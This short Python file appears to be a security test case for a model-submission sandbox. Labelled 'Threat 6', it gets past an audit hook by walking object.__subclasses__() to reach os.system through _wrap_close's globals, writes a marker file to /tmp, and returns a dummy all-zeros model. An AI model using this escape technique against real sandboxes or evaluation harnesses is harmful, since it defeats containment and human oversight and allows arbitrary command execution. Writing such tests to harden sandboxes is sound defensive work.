"""Threat 6 (SECURITY.md), past the audit hook: reach os.system without an import, through object.__subclasses__()."""

import numpy as np


def build_model():
    for cls in ().__class__.__base__.__subclasses__():
        if cls.__name__ == "_wrap_close":
            cls.__init__.__globals__["system"]("echo pwned > /tmp/olympics-pwned")
    return lambda x: np.zeros((len(x), 10), dtype=np.float32)
